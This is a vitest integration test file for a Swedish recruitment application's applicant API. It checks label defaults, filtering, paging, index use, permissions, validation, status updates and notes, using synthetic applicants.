import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync } from 'node:fs';
import { and, eq, sql } from 'drizzle-orm';
import { parse as parseCsv } from 'csv-parse/sync';
import { PDFDocument } from 'pdf-lib';
import { PermissionId, answerFilterGroups, type ApplicantFilter, type FormProperty } from '@rekry/domain';
import { customerServiceForm } from '../src/services/sample-data/forms.ts';
import { generateApplicants } from '../src/services/applicant-generator.ts';
import { applicantPageQuery } from '../src/actions/applicants/queries.ts';
import type { Queryable } from '../src/db/client.ts';
import {
  applicationFiles,
  applicationLog,
  applicationNotes,
  containers,
  jobApplications,
  labelEmailTemplates,
  labels,
  notifications,
  positionPermissions,
  positionSkills,
  questionnaireAnswers,
  skillQuestions,
  skills,
  users,
} from '../src/db/schema.ts';
import { FileStorage } from '../src/services/storage.ts';
import { buildApplication, labelByName } from './helpers/applicants.ts';
import { createTestApp, dispatch, type TestApp } from './helpers/app.ts';
import {
  buildContainer,
  buildPosition,
  buildUser,
  buildWorld,
  tokenFor,
  type World,
} from './helpers/factories.ts';

let t: TestApp;
let world: World;
const tokens = {} as Record<'reader' | 'writer' | 'admin' | 'foreignAdmin' | 'superuser', string>;
beforeAll(async () => {
  t = await createTestApp();
  world = await buildWorld(t.db);
  for (const role of ['reader', 'writer', 'admin', 'foreignAdmin', 'superuser'] as const)
    tokens[role] = await tokenFor(t.db, t.app.services.tokens, world[role].id);
});
afterAll(() => t.close());

const own = () => world.own.id;

/** The customer-service form (every field type) plus a merit group. */
function meritForm(): FormProperty[] {
  const form = customerServiceForm();
  const order = Math.max(...form.map((p) => p.order)) + 10;
  const member = (i: number, label: string): FormProperty => ({
    key: `requirementsform_${i}`,
    type: 'checkbox',
    label,
    required: false,
    isHtml: false,
    order: order + i * 10,
    validators: [],
  });
  return [
    ...form,
    {
      key: 'requirementsform',
      type: 'group',
      label: 'Meriterande',
      required: false,
      isHtml: false,
      order,
      data: { label: 'Meriterande', keys: ['requirementsform_1', 'requirementsform_2'] },
      validators: [],
    },
    member(1, 'Truckkort'),
    member(2, 'Erfarenhet av kundtjänst'),
  ];
}

/** A position of the own company where the writer holds Write and the reader Read. */
async function positionWithRights(form: FormProperty[] = meritForm()) {
  const position = await buildPosition(t.db, own(), { form });
  await t.db.insert(positionPermissions).values([
    {
      containerId: own(),
      positionId: position.id,
      userId: world.writer.id,
      permissionId: PermissionId.Write,
    },
    { containerId: own(), positionId: position.id, userId: world.reader.id, permissionId: PermissionId.Read },
  ]);
  return position;
}

const list = (token: string | undefined, positionId: number, extra: Record<string, unknown> = {}) =>
  dispatch(t.app, token, 'get_ApplicantsByPosition', { containerId: own(), positionId, ...extra });

describe('labels', () => {
  it('every company has the default Interest and Process labels from the start, also new ones', async () => {
    const fresh = await buildContainer(t.db);
    const rows = await t.db.select().from(labels).where(eq(labels.containerId, fresh.id));
    expect(rows.filter((l) => l.labelType === 'Interest').map((l) => l.name)).toEqual(
      expect.arrayContaining(['Intressant', 'Kanske', 'Ej aktuell']),
    );
    expect(rows.filter((l) => l.labelType === 'Process').length).toBeGreaterThanOrEqual(4);
    // One default per type (migration 0012): the first of each.
    expect(
      rows
        .filter((l) => l.isDefault)
        .map((l) => l.name)
        .sort(),
    ).toEqual(['Kontaktad', 'Mycket intressant']);

    const res = await dispatch(t.app, tokens.reader, 'get_Labels', { containerId: own() });
    expect(res.status).toBe(200);
    expect(res.body.data[0].labelType.name).toBe('Interest');
    expect(res.body.data.map((l: { name: string }) => l.name)).toContain('Telefonintervju');
  });
});

describe('get_ApplicantsByPosition', () => {
  it('answers 401 without a token, 403 to another company, 404 for a position of another company', async () => {
    const position = await positionWithRights();
    expect((await list(undefined, position.id)).status).toBe(401);
    const foreignRes = await dispatch(t.app, tokens.foreignAdmin, 'get_ApplicantsByPosition', {
      containerId: own(),
      positionId: position.id,
    });
    expect(foreignRes.status).toBe(403);
    const foreignPosition = await buildPosition(t.db, world.foreign.id);
    await buildApplication(t.db, world.foreign.id, foreignPosition.id);
    expect((await list(tokens.admin, foreignPosition.id)).status).toBe(404);
  });

  it('answers 400 per bad field', async () => {
    const position = await positionWithRights();
    for (const [field, value] of [
      ['labelId', -2],
      ['labelId', 'x'],
      ['processLabelId', 1.5],
      ['sort', 'age'],
      ['take', 0],
      ['take', 201],
      ['after', 'not-a-cursor'],
      ['answers', [{ key: 'form_ssn', value: '199001011239' }]],
      ['answers', 'x'],
      ['query', 'x'.repeat(101)],
      ['labelId', 999_999],
    ] as const) {
      const res = await list(tokens.reader, position.id, { [field]: value });
      expect(res.status, `${field}=${JSON.stringify(value)}`).toBe(400);
      expect(Object.keys(res.body.error.fields ?? {}).join(), field).toContain(field);
      expect(res.body.error.message).toMatch(/[a-zåäö]/i);
    }
    // A label of another company is unknown here.
    const foreignLabel = await labelByName(t.db, world.foreign.id, 'Intressant');
    expect((await list(tokens.reader, position.id, { labelId: foreignLabel.id })).status).toBe(400);
  });

  it('filters by status, process level and answers, exactly', async () => {
    const position = await positionWithRights();
    const interesting = await labelByName(t.db, own(), 'Intressant');
    const no = await labelByName(t.db, own(), 'Ej aktuell');
    const interview = await labelByName(t.db, own(), 'Intervju');
    const make = (name: string, options: Parameters<typeof buildApplication>[3]) =>
      buildApplication(t.db, own(), position.id, { firstname: name, lastname: 'Test', ...options });
    const a = await make('Alfa', {
      labelId: interesting.id,
      answers: {
        summerperiodsform_1: true,
        driverlicenseform_2: true,
        licensetodriveform: 'licensetodrive_1',
      },
    });
    const b = await make('Bravo', {
      labelId: interesting.id,
      processLabelId: interview.id,
      answers: {
        summerperiodsform_2: true,
        requirementsform_1: true,
        'radio-group_shift': 'radio-group_shift_2',
      },
    });
    const c = await make('Charlie', {
      labelId: no.id,
      answers: { summerperiodsform_1: true, summerperiodsform_2: true, customform_languages_3: true },
    });
    const d = await make('Delta', {
      answers: {
        driverlicenseform_2: true,
        licensetodriveform: 'licensetodrive_2',
        requirementsform_1: true,
      },
    });
    const ids = async (extra: Record<string, unknown>) => {
      const res = await list(tokens.reader, position.id, extra);
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      return res.body.data.items.map((i: { id: number }) => i.id).sort((x: number, y: number) => x - y);
    };
    const sorted = (...xs: { id: number }[]) => xs.map((x) => x.id).sort((x, y) => x - y);

    expect(await ids({})).toEqual(sorted(a, b, c, d));
    expect(await ids({ labelId: -1 })).toEqual(sorted(a, b, c, d));
    expect(await ids({ labelId: interesting.id })).toEqual(sorted(a, b));
    expect(await ids({ labelId: 0 })).toEqual(sorted(d));
    expect(await ids({ processLabelId: interview.id })).toEqual(sorted(b));
    expect(await ids({ processLabelId: 0 })).toEqual(sorted(a, c, d));
    expect(await ids({ answers: [{ key: 'summerperiodsform_1', value: true }] })).toEqual(sorted(a, c));
    expect(
      await ids({
        answers: [
          { key: 'summerperiodsform_1', value: true },
          { key: 'summerperiodsform_2', value: true },
        ],
      }),
    ).toEqual(sorted(c));
    expect(await ids({ answers: [{ key: 'requirementsform_1', value: true }] })).toEqual(sorted(b, d));
    expect(await ids({ answers: [{ key: 'radio-group_shift', value: 'radio-group_shift_2' }] })).toEqual(
      sorted(b),
    );
    expect(await ids({ answers: [{ key: 'customform_languages_3', value: true }] })).toEqual(sorted(c));
    // 'Körkort och egen bil': a licence and an own car, both.
    const groups = answerFilterGroups(position.form);
    const driver = groups.find((g) => g.kind === 'Har körkort och egen bil')!;
    const both = driver.options.find((o) => o.label === 'Körkort och egen bil')!;
    expect(await ids({ answers: both.conditions })).toEqual(sorted(a));
    expect(
      await ids({ labelId: interesting.id, answers: [{ key: 'requirementsform_1', value: true }] }),
    ).toEqual(sorted(b));
    // 'Sök sökande': a part of the name, the e-mail or the city, in any case (Swedish letters too).
    expect(await ids({ query: 'charl' })).toEqual(sorted(c));
    expect(await ids({ query: 'CHARL' })).toEqual(sorted(c));
    expect(await ids({ query: 'VÄSTERÅS' })).toEqual(sorted(a, b, c, d));
    const all = await list(tokens.reader, position.id, {});
    const deltaEmail: string = all.body.data.items.find((i: { id: number }) => i.id === d.id).email;
    expect(await ids({ query: deltaEmail.slice(0, 14) })).toEqual(sorted(d));
    expect(await ids({ query: '%' })).toEqual([]);

    const res = await list(tokens.reader, position.id, { labelId: interesting.id });
    expect(res.body.data.total).toBe(2);
    const item = res.body.data.items.find((i: { id: number }) => i.id === a.id);
    expect(item).toMatchObject({ name: 'Alfa Test', isUnprocessed: false, isUnread: true, gender: 'Man' });
    expect(item.age).toBeGreaterThan(30);
    expect(item.answers).toEqual(
      expect.arrayContaining([expect.objectContaining({ title: 'Har körkort och egen bil' })]),
    );
  });

  it('Tjänster: only applicants who also applied to another position of the company', async () => {
    const position = await positionWithRights();
    const other = await buildPosition(t.db, own());
    const both = await buildApplication(t.db, own(), position.id);
    await t.db.insert(jobApplications).values({
      containerId: own(),
      positionId: other.id,
      userId: both.userId,
      metadata: {},
      info: both.info,
    });
    await buildApplication(t.db, own(), position.id);
    const res = await list(tokens.reader, position.id, { otherPositionId: other.id });
    expect(res.status).toBe(200);
    expect(res.body.data.items.map((i: { id: number }) => i.id)).toEqual([both.id]);
    const filters = await dispatch(t.app, tokens.reader, 'get_ApplicantFilters', {
      containerId: own(),
      positionId: position.id,
    });
    expect(filters.body.data.positions[0]).toEqual({ value: -1, label: 'Alla' });
    expect(filters.body.data.positions.map((p: { value: number }) => p.value)).toContain(other.id);
    expect(filters.body.data.positions.map((p: { value: number }) => p.value)).not.toContain(position.id);
    const foreign = await buildPosition(t.db, world.foreign.id);
    for (const otherPositionId of [foreign.id, 0, 'x']) {
      const bad = await list(tokens.reader, position.id, { otherPositionId });
      expect(bad.status).toBe(400);
      expect(bad.body.error.fields.otherPositionId).toBe('Okänd tjänst');
    }
  });

  it('offers the filter groups of SPEC §9, each with Alla first for the labels', async () => {
    const position = await positionWithRights();
    const res = await dispatch(t.app, tokens.reader, 'get_ApplicantFilters', {
      containerId: own(),
      positionId: position.id,
    });
    expect(res.status).toBe(200);
    const data = res.body.data;
    expect(data.status[0]).toEqual({ value: -1, label: 'Alla' });
    expect(data.status[1]).toEqual({ value: 0, label: 'Ej behandlad' });
    expect(data.processLevel[0]).toEqual({ value: -1, label: 'Alla' });
    const kinds = data.answers.map((g: { kind: string }) => g.kind);
    expect(kinds).toEqual(
      expect.arrayContaining([
        'Perioder',
        'Har körkort och egen bil',
        'Meriterande',
        'CheckboxGroup',
        'RadioGroup',
      ]),
    );
    // The agreement is never a filter.
    expect(JSON.stringify(data.answers)).not.toContain('form_agreement');
  });

  it('hides age and gender when the company profile does', async () => {
    const company = await buildContainer(t.db, {
      metadata: { foreignKey: null, properties: { showAge: false, showGender: false } },
    });
    const admin = await buildUser(t.db, { memberOf: [[company.id, [PermissionId.Administrator]]] });
    const token = await tokenFor(t.db, t.app.services.tokens, admin.id);
    const position = await buildPosition(t.db, company.id);
    await buildApplication(t.db, company.id, position.id);
    const res = await dispatch(t.app, token, 'get_ApplicantsByPosition', {
      containerId: company.id,
      positionId: position.id,
    });
    expect(res.status).toBe(200);
    expect(res.body.data.showAge).toBe(false);
    expect(res.body.data.items[0]).not.toHaveProperty('age');
    expect(res.body.data.items[0]).not.toHaveProperty('gender');
  });

  it('pages 30 at a time in every sort without losing or repeating anyone', async () => {
    const position = await positionWithRights(customerServiceForm());
    const base = Date.now() - 100 * 60_000;
    const names = ['Östen', 'anna', 'Åsa', 'Bertil', 'Cecilia', 'david'];
    const values = Array.from({ length: 75 }, (_, i) => i);
    for (const i of values)
      await buildApplication(t.db, own(), position.id, {
        firstname: names[i % names.length]!,
        lastname: `Nr${String(i).padStart(2, '0')}`,
        // Some share a timestamp: the id breaks the tie.
        createdAt: new Date(base + Math.floor(i / 3) * 60_000),
      });
    for (const sort of ['newest', 'oldest', 'nameAsc', 'nameDesc']) {
      const seen: number[] = [];
      let after: string | undefined;
      let pages = 0;
      do {
        const res = await list(tokens.reader, position.id, { sort, ...(after ? { after } : {}) });
        expect(res.status).toBe(200);
        if (pages === 0) expect(res.body.data.total).toBe(75);
        else expect(res.body.data.total).toBeNull();
        expect(res.body.data.items.length).toBeLessThanOrEqual(30);
        seen.push(...res.body.data.items.map((i: { id: number }) => i.id));
        after = res.body.data.nextCursor ?? undefined;
        pages += 1;
      } while (after);
      expect(pages, sort).toBe(3);
      expect(new Set(seen).size, sort).toBe(75);
    }
    const first = await list(tokens.reader, position.id, { sort: 'nameAsc', take: 75 });
    const shown = first.body.data.items.map((i: { name: string }) => i.name.toLowerCase());
    expect(shown).toEqual([...shown].sort());
  });

  it('reads the list and a filtered list through the position indexes (EXPLAIN)', async () => {
    const position = await positionWithRights();
    const plan = async (filter: Partial<ApplicantFilter>) =>
      t.db.transaction(async (tx) => {
        // Few rows here, so the planner would scan and sort anyway: forbid that to see whether the index fits.
        await tx.execute(sql`set local enable_seqscan = off`);
        await tx.execute(sql`set local enable_sort = off`);
        return pagePlan(tx, position.id, filter);
      });
    expect(await plan({})).toContain('job_applications_position_created_idx');
    expect(await plan({ sort: 'nameAsc' })).toContain('job_applications_position_name_idx');
    const interesting = await labelByName(t.db, own(), 'Intressant');
    expect(await plan({ labelId: interesting.id })).toContain('job_applications_position_label_idx');
    expect(await plan({ answers: [{ key: 'requirementsform_1', value: true }] })).toMatch(
      /job_applications_(metadata|position_created)_idx/,
    );
  });
});

/** EXPLAIN of the list's first page (newest first, every status) with `filter` on top. */
async function pagePlan(db: Queryable, positionId: number, filter: Partial<ApplicantFilter>) {
  const full: ApplicantFilter = {
    labelId: -1,
    processLabelId: -1,
    otherPositionId: -1,
    answers: [],
    query: '',
    sort: 'newest',
    ...filter,
  };
  const result = await db.execute(
    sql`explain ${applicantPageQuery(db, own(), positionId, full, { take: 30 })}`,
  );
  return (result as unknown as { rows: Record<string, string>[] }).rows
    .map((r) => Object.values(r)[0])
    .join('\n');
}

describe('the list at scale', () => {
  it('reads the first page and a filtered page through the indexes by the planner’s own choice', async () => {
    const position = await positionWithRights();
    await generateApplicants(t.db, own(), position.id, position.form, 5000);
    const interesting = await labelByName(t.db, own(), 'Intressant');
    const plan = (filter: Partial<ApplicantFilter>) => pagePlan(t.db, position.id, filter);
    const first = await plan({});
    expect(first).toContain('job_applications_position_created_idx');
    expect(first).not.toMatch(/Seq Scan|Sort/);
    const filtered = await plan({
      labelId: interesting.id,
      answers: [{ key: 'requirementsform_1', value: true }],
    });
    expect(filtered).toContain('job_applications_position_label_idx');
    expect(filtered).not.toMatch(/Seq Scan|Sort/);
    const byName = await plan({ sort: 'nameDesc' });
    expect(byName).toContain('job_applications_position_name_idx');
    expect(byName).not.toMatch(/Seq Scan|Sort/);
    // 'Sök sökande' for a name no one here has: the trigram index answers instead of reading every row.
    const searched = await plan({ query: 'zqxw' });
    expect(searched).toContain('job_applications_search_idx');
    expect(searched).not.toMatch(/Seq Scan/);
  });
});

describe('get_ApplicantById', () => {
  it('answers the applicant with answers, requirement fulfilment, neighbours, and marks it read', async () => {
    const position = await positionWithRights();
    const base = Date.now() - 10 * 60_000;
    const [x, y, z] = [
      await buildApplication(t.db, own(), position.id, { firstname: 'Xena', createdAt: new Date(base) }),
      await buildApplication(t.db, own(), position.id, {
        firstname: 'Yngve',
        createdAt: new Date(base + 60_000),
        answers: { requirementsform_1: true, form_additional: '' },
      }),
      await buildApplication(t.db, own(), position.id, {
        firstname: 'Zara',
        createdAt: new Date(base + 120_000),
      }),
    ];
    const res = await dispatch(t.app, tokens.reader, 'get_ApplicantById', {
      containerId: own(),
      positionId: position.id,
      applicantId: y.id,
    });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const d = res.body.data;
    expect(d.info.firstname).toBe('Yngve');
    // Newest first: the previous one in the list is the newer Zara, the next the older Xena.
    expect(d.previousId).toBe(z.id);
    expect(d.nextId).toBe(x.id);
    expect(d.requirements).toEqual([
      { key: 'requirementsform_1', title: 'Truckkort', fullfilled: true },
      { key: 'requirementsform_2', title: 'Erfarenhet av kundtjänst', fullfilled: false },
    ]);
    expect(d.answers.find((a: { key: string }) => a.key === 'form_firstname')).toMatchObject({
      value: 'Yngve',
    });
    expect(d.answers.find((a: { key: string }) => a.key === 'form_textarea_experience').value).toBe(
      'Ingen information angiven.',
    );
    expect(d.canEdit).toBe(false);
    const oldest = await dispatch(t.app, tokens.reader, 'get_ApplicantById', {
      containerId: own(),
      positionId: position.id,
      applicantId: x.id,
      sort: 'oldest',
    });
    expect(oldest.body.data).toMatchObject({ previousId: null, nextId: y.id });

    const [row] = await t.db.select().from(jobApplications).where(eq(jobApplications.id, y.id));
    expect(row!.viewedAt).not.toBeNull();
    const listed = await list(tokens.reader, position.id);
    expect(listed.body.data.items.find((i: { id: number }) => i.id === y.id).isUnread).toBe(false);
  });

  it('finds the neighbours in the list’s own order when sorted by name (Å, Ä, Ö too)', async () => {
    const position = await positionWithRights();
    for (const firstname of ['Östen', 'Åsa', 'Ärla', 'Bertil', 'anna'])
      await buildApplication(t.db, own(), position.id, { firstname, lastname: 'Nilsson' });
    for (const sort of ['nameAsc', 'nameDesc'] as const) {
      const order = (await list(tokens.reader, position.id, { sort })).body.data.items.map(
        (i: { id: number }) => i.id,
      );
      for (const [i, id] of order.entries()) {
        const d = await dispatch(t.app, tokens.reader, 'get_ApplicantById', {
          containerId: own(),
          positionId: position.id,
          applicantId: id,
          sort,
        });
        expect(d.body.data.previousId, `${sort} ${i}`).toBe(order[i - 1] ?? null);
        expect(d.body.data.nextId, `${sort} ${i}`).toBe(order[i + 1] ?? null);
      }
    }
  });

  it('answers 404 for an applicant of another position or company, and 400 on a bad id', async () => {
    const position = await positionWithRights();
    const other = await positionWithRights();
    const elsewhere = await buildApplication(t.db, own(), other.id);
    const foreignPosition = await buildPosition(t.db, world.foreign.id);
    const foreign = await buildApplication(t.db, world.foreign.id, foreignPosition.id);
    for (const applicantId of [elsewhere.id, foreign.id]) {
      const res = await dispatch(t.app, tokens.admin, 'get_ApplicantById', {
        containerId: own(),
        positionId: position.id,
        applicantId,
      });
      expect(res.status).toBe(404);
    }
    const bad = await dispatch(t.app, tokens.admin, 'get_ApplicantById', {
      containerId: own(),
      positionId: position.id,
      applicantId: 'x',
    });
    expect(bad.status).toBe(400);
    expect(bad.body.error.fields.applicantId).toBeTruthy();
  });
});

describe('update_ApplicantStatus', () => {
  it('replaces the single Interest label of many, logs it and tells the company', async () => {
    const position = await positionWithRights();
    const interesting = await labelByName(t.db, own(), 'Intressant');
    const maybe = await labelByName(t.db, own(), 'Kanske');
    const apps = [];
    for (let i = 0; i < 5; i++)
      apps.push(
        await buildApplication(t.db, own(), position.id, { labelId: i === 0 ? interesting.id : null }),
      );
    const ids = apps.map((a) => a.id);
    const res = await dispatch(t.app, tokens.writer, 'update_ApplicantStatus', {
      containerId: own(),
      positionId: position.id,
      labelId: maybe.id,
      ids,
    });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data.updated).toBe(5);
    const rows = await t.db.select().from(jobApplications).where(eq(jobApplications.positionId, position.id));
    expect(rows.every((r) => r.labelId === maybe.id)).toBe(true);
    const logs = await t.db.select().from(applicationLog).where(eq(applicationLog.applicationId, ids[0]!));
    expect(logs.map((l) => l.message)).toContain('Status ändrad till Kanske');
    const [note] = await t.db
      .select()
      .from(notifications)
      .where(
        and(eq(notifications.containerId, own()), eq(notifications.type, 'update_jobApplicationStatus')),
      );
    expect(note).toBeTruthy();

    // The process level is its own label; 0 clears it.
    const interview = await labelByName(t.db, own(), 'Intervju');
    const process = await dispatch(t.app, tokens.writer, 'update_ApplicantStatus', {
      containerId: own(),
      positionId: position.id,
      labelId: interview.id,
      labelType: 'Process',
      ids: [ids[1]],
    });
    expect(process.status).toBe(200);
    const [second] = await t.db.select().from(jobApplications).where(eq(jobApplications.id, ids[1]!));
    expect(second).toMatchObject({ labelId: maybe.id, processLabelId: interview.id });
    const cleared = await dispatch(t.app, tokens.writer, 'update_ApplicantStatus', {
      containerId: own(),
      positionId: position.id,
      labelId: 0,
      ids: [ids[1]],
    });
    expect(cleared.body.data.updated).toBe(1);
    const [after] = await t.db.select().from(jobApplications).where(eq(jobApplications.id, ids[1]!));
    expect(after).toMatchObject({ labelId: null, processLabelId: interview.id });
  });

  it('sets the status of all that match the list’s filter, and offers the label’s e-mail template', async () => {
    const position = await positionWithRights();
    const maybe = await labelByName(t.db, own(), 'Kanske');
    await t.db.insert(labelEmailTemplates).values({
      containerId: own(),
      labelId: maybe.id,
      name: 'Kanske',
      subject: 'Om din ansökan',
      content: 'Hej ##FIRSTNAME##!',
    });
    const merited = [];
    for (let i = 0; i < 3; i++)
      merited.push(
        await buildApplication(t.db, own(), position.id, { answers: { requirementsform_2: true } }),
      );
    const others = [
      await buildApplication(t.db, own(), position.id),
      await buildApplication(t.db, own(), position.id),
    ];
    const at = { containerId: own(), positionId: position.id, labelId: maybe.id };
    const res = await dispatch(t.app, tokens.writer, 'update_ApplicantStatus', {
      ...at,
      filter: { answers: [{ key: 'requirementsform_2', value: true }] },
    });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data.updated).toBe(3);
    expect(res.body.data.labelEmailTemplate).toMatchObject({ labelId: maybe.id, subject: 'Om din ansökan' });
    const rows = await t.db.select().from(jobApplications).where(eq(jobApplications.positionId, position.id));
    const byId = new Map(rows.map((r) => [r.id, r.labelId]));
    expect(merited.map((a) => byId.get(a.id))).toEqual([maybe.id, maybe.id, maybe.id]);
    expect(others.map((a) => byId.get(a.id))).toEqual([null, null]);

    for (const [data, field] of [
      [{}, 'ids'],
      [{ ids: [others[0]!.id], filter: {} }, 'ids'],
      [{ filter: { answers: [{ key: 'form_ssn', value: 'x' }] } }, 'answers'],
      [{ filter: { sort: 'x' } }, 'filter.sort'],
    ] as const) {
      const bad = await dispatch(t.app, tokens.writer, 'update_ApplicantStatus', { ...at, ...data });
      expect(bad.status, JSON.stringify(data)).toBe(400);
      expect(bad.body.error.fields[field], JSON.stringify(bad.body)).toBeTruthy();
    }
    const interesting = await labelByName(t.db, own(), 'Intressant');
    const noTemplate = await dispatch(t.app, tokens.writer, 'update_ApplicantStatus', {
      ...at,
      labelId: interesting.id,
      ids: [others[0]!.id],
    });
    expect(noTemplate.body.data.labelEmailTemplate).toBeNull();
  });

  it('saves nothing when one id is not the position’s, the label is unknown or of the wrong type', async () => {
    const position = await positionWithRights();
    const other = await positionWithRights();
    const mine = await buildApplication(t.db, own(), position.id);
    const stranger = await buildApplication(t.db, own(), other.id);
    const interesting = await labelByName(t.db, own(), 'Intressant');
    const interview = await labelByName(t.db, own(), 'Intervju');
    const foreignLabel = await labelByName(t.db, world.foreign.id, 'Intressant');
    const cases: [Record<string, unknown>, string][] = [
      [{ labelId: interesting.id, ids: [mine.id, stranger.id] }, 'ids'],
      [{ labelId: interesting.id, ids: [mine.id, 2_000_000_000] }, 'ids'],
      [{ labelId: interesting.id, ids: [] }, 'ids'],
      [{ labelId: interesting.id, ids: 'x' }, 'ids'],
      [{ labelId: foreignLabel.id, ids: [mine.id] }, 'labelId'],
      [{ labelId: interview.id, ids: [mine.id] }, 'labelId'],
      [{ labelId: -1, ids: [mine.id] }, 'labelId'],
      [{ labelId: interesting.id, ids: [mine.id], labelType: 'Other' }, 'labelType'],
    ];
    for (const [data, field] of cases) {
      const res = await dispatch(t.app, tokens.writer, 'update_ApplicantStatus', {
        containerId: own(),
        positionId: position.id,
        ...data,
      });
      expect(res.status, JSON.stringify(data)).toBe(400);
      expect(res.body.error.fields[field], JSON.stringify(res.body)).toBeTruthy();
    }
    const rows = await t.db.select().from(jobApplications).where(eq(jobApplications.id, mine.id));
    expect(rows[0]!.labelId).toBeNull();
    const logs = await t.db.select().from(applicationLog).where(eq(applicationLog.applicationId, mine.id));
    expect(logs).toHaveLength(0);
  });

  it('a reader, a company writer without a right on the position and another company may not', async () => {
    const position = await positionWithRights();
    const mine = await buildApplication(t.db, own(), position.id);
    const interesting = await labelByName(t.db, own(), 'Intressant');
    const data = { containerId: own(), positionId: position.id, labelId: interesting.id, ids: [mine.id] };
    expect((await dispatch(t.app, tokens.reader, 'update_ApplicantStatus', data)).status).toBe(403);
    expect((await dispatch(t.app, tokens.foreignAdmin, 'update_ApplicantStatus', data)).status).toBe(403);
    expect((await dispatch(t.app, undefined, 'update_ApplicantStatus', data)).status).toBe(401);
    const unrelated = await buildPosition(t.db, own());
    const there = await buildApplication(t.db, own(), unrelated.id);
    const noRight = await dispatch(t.app, tokens.writer, 'update_ApplicantStatus', {
      ...data,
      positionId: unrelated.id,
      ids: [there.id],
    });
    expect(noRight.status).toBe(403);
    // Reader: no delete either.
    const del = await dispatch(t.app, tokens.reader, 'delete_JobApplication', {
      containerId: own(),
      positionId: position.id,
      applicantId: mine.id,
    });
    expect(del.status).toBe(403);
    const [row] = await t.db.select().from(jobApplications).where(eq(jobApplications.id, mine.id));
    expect(row!.labelId).toBeNull();
  });
});

describe('notes, create, update and delete', () => {
  it('create_ApplicantNote saves a note with its author and logs it', async () => {
    const position = await positionWithRights();
    const mine = await buildApplication(t.db, own(), position.id);
    const res = await dispatch(t.app, tokens.writer, 'create_ApplicantNote', {
      containerId: own(),
      positionId: position.id,
      applicantId: mine.id,
      text: '  Stark kandidat, ring på fredag.  ',
    });
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({
      text: 'Stark kandidat, ring på fredag.',
      author: { id: world.writer.id },
    });
    for (const text of ['', '   ', 'x'.repeat(10_001), 12]) {
      const bad = await dispatch(t.app, tokens.writer, 'create_ApplicantNote', {
        containerId: own(),
        positionId: position.id,
        applicantId: mine.id,
        text,
      });
      expect(bad.status).toBe(400);
      expect(bad.body.error.fields.text).toBeTruthy();
    }
    const notes = await t.db
      .select()
      .from(applicationNotes)
      .where(eq(applicationNotes.applicationId, mine.id));
    expect(notes).toHaveLength(1);
    const detail = await dispatch(t.app, tokens.reader, 'get_ApplicantById', {
      containerId: own(),
      positionId: position.id,
      applicantId: mine.id,
    });
    expect(detail.body.data.notes[0].author.name).toBe('Test Testsson');
    expect(detail.body.data.logs.map((l: { kind: string }) => l.kind)).toContain('note');
  });

  it('create_Applicant adds one by hand with status and note; twice is 409; bad input saves nothing', async () => {
    const position = await positionWithRights();
    const interesting = await labelByName(t.db, own(), 'Intressant');
    const email = 'Handlagd.Person@Example.se';
    const res = await dispatch(t.app, tokens.writer, 'create_Applicant', {
      containerId: own(),
      positionId: position.id,
      email,
      metadata: {
        form_firstname: 'Hanna',
        form_surname: 'Hand',
        requirementsform_1: true,
        'radio-group_shift': 'radio-group_shift_1',
        not_in_form: 'bort',
      },
      labelId: interesting.id,
      note: 'Träffade på mässan.',
    });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const d = res.body.data;
    expect(d).toMatchObject({
      isManuallyCreated: true,
      labelId: interesting.id,
      info: { name: 'Hanna Hand' },
    });
    expect(d.user.email).toBe('handlagd.person@example.se');
    expect(d.metadata).not.toHaveProperty('not_in_form');
    expect(d.notes[0].text).toBe('Träffade på mässan.');
    expect(d.logs.map((l: { kind: string }) => l.kind)).toEqual(
      expect.arrayContaining(['created', 'status', 'note']),
    );

    const again = await dispatch(t.app, tokens.writer, 'create_Applicant', {
      containerId: own(),
      positionId: position.id,
      email,
    });
    expect(again.status).toBe(409);

    const before = await t.db.select({ n: sql<number>`count(*)::int` }).from(jobApplications);
    for (const [data, field] of [
      [{ email: 'inte-en-adress' }, 'email'],
      [{ email: 'ny1@example.se', labelId: 999_999 }, 'labelId'],
      [{ email: 'ny2@example.se', metadata: { requirementsform_1: 'ja' } }, 'metadata.requirementsform_1'],
      [{ email: 'ny3@example.se', metadata: { 'radio-group_shift': 'nope' } }, 'metadata.radio-group_shift'],
      [{ email: 'ny4@example.se', metadata: { form_firstname: { a: 1 } } }, 'metadata.form_firstname'],
      [{ email: 'ny5@example.se', note: 'x'.repeat(10_001) }, 'note'],
    ] as const) {
      const bad = await dispatch(t.app, tokens.writer, 'create_Applicant', {
        containerId: own(),
        positionId: position.id,
        ...data,
      });
      expect(bad.status, JSON.stringify(data)).toBe(400);
      expect(bad.body.error.fields[field], JSON.stringify(bad.body)).toBeTruthy();
    }
    const after = await t.db.select({ n: sql<number>`count(*)::int` }).from(jobApplications);
    expect(after[0]!.n).toBe(before[0]!.n);
    const strays = await t.db.select().from(users).where(eq(users.email, 'ny2@example.se'));
    expect(strays).toHaveLength(0);
  });

  it('update_Applicant changes answers (files kept) and the note', async () => {
    const position = await positionWithRights();
    const mine = await buildApplication(t.db, own(), position.id, {
      answers: { form_file: { filename: 'cv.pdf', data: '' } },
    });
    const res = await dispatch(t.app, tokens.writer, 'update_Applicant', {
      containerId: own(),
      positionId: position.id,
      applicantId: mine.id,
      metadata: { form_firstname: 'Ändrad', form_surname: 'Person', form_city: 'Luleå' },
      note: 'Kort notis',
      otherOffer: true,
    });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data).toMatchObject({
      note: 'Kort notis',
      otherOffer: true,
      info: { name: 'Ändrad Person', city: 'Luleå' },
    });
    expect(res.body.data.metadata.form_file).toEqual({ filename: 'cv.pdf', data: '' });
    // Answers not given stay; null clears one.
    expect(res.body.data.metadata.form_zipcode).toBe('722 15');
    const cleared = await dispatch(t.app, tokens.writer, 'update_Applicant', {
      containerId: own(),
      positionId: position.id,
      applicantId: mine.id,
      metadata: { form_city: null },
    });
    expect(cleared.body.data.metadata.form_city).toBeNull();
    expect(cleared.body.data.info.city).toBe('');
    expect(cleared.body.data.metadata.form_firstname).toBe('Ändrad');
    const reader = await dispatch(t.app, tokens.reader, 'update_Applicant', {
      containerId: own(),
      positionId: position.id,
      applicantId: mine.id,
      note: 'x',
    });
    expect(reader.status).toBe(403);
  });

